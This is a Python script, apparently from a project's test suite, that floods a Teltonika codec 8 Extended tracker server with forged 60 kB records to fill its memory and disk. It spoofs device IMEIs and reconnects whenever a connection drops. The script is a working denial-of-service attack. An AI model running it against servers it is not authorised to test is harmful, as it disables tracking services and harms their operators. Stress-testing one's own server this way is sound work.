"""Fill the server's memory and disk: codec 8 Extended packets of 60 kB with one record each.

python tests/attacks/fill_disk.py HOST PORT SECONDS [CONNECTIONS]
"""

import socket
import sys
import threading
import time

HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
CONNECTIONS = int(sys.argv[4]) if len(sys.argv) > 4 else 1
ONE_VALUE = b"\x00\x01\x00\x01" + bytes(8) + b"\x00\x01\x01\x81" + (60_008).to_bytes(2)
HEAD = b"\x8e\x01" + (1_700_000_000_000).to_bytes(8) + bytes(16) + ONE_VALUE + bytes(60_000)
stored, connected = [0] * CONNECTIONS, [0] * CONNECTIONS


def crc(data: bytes, value: int = 0) -> int:
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ 0xA001 * (value & 1)
    return value


HEAD_CRC = crc(HEAD)
END = time.monotonic() + SECONDS


def attack(number: int) -> None:
    while time.monotonic() < END:
        try:
            with socket.create_connection((HOST, PORT), timeout=10) as server:
                connected[number] += 1
                server.sendall(b"\x00\x0f35630704%07d" % number)
                server.recv(1)
                while time.monotonic() < END:
                    tail = time.time_ns().to_bytes(8) + b"\x01"
                    data = HEAD + tail + crc(tail, HEAD_CRC).to_bytes(4)
                    server.sendall(bytes(4) + (len(data) - 4).to_bytes(4) + data)
                    stored[number] += server.recv(4) == b"\x00\x00\x00\x01"
        except OSError:
            time.sleep(0.01)  # closed, or not answered for ten seconds: come again


threads = [threading.Thread(target=attack, args=(number,)) for number in range(CONNECTIONS)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(f"{sum(stored)} records of 60 kB acknowledged, {sum(connected)} connections")
